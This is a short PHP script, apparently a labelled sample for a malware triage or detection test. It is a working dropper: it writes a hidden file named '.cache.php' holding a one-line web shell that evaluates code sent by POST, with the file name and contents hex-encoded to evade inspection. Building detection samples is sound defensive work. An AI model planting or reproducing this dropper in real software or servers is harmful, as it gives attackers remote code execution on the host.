<script language="php">
// triage-expect: triage_php_encoded_code_writer
// PHP 5 script-tag dropper: the planted file's name and its one-line content are hex literals.
$h = fopen(pack("H*", "2e63616368652e706870"), "w");
fwrite($h, pack("H*", "3c3f70687020406576616c28245f504f53545b2778275d293b203f3e"));
fclose($h);
</script>
